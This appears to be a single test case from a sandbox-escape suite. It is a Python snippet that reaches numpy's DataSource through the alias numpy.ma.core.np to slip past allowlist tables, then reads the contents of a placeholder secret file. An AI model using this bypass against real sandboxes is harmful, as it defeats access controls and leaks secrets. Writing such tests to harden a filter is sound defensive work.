# attack: numpy's DataSource opens paths and addresses of the web; `np` inside numpy.ma is numpy again, by a path that no table has
# family: numpy
import numpy
source = numpy.ma.core.np.DataSource(None)
print("REACHED", source)
print(source.open("$SECRET_FILE").read())
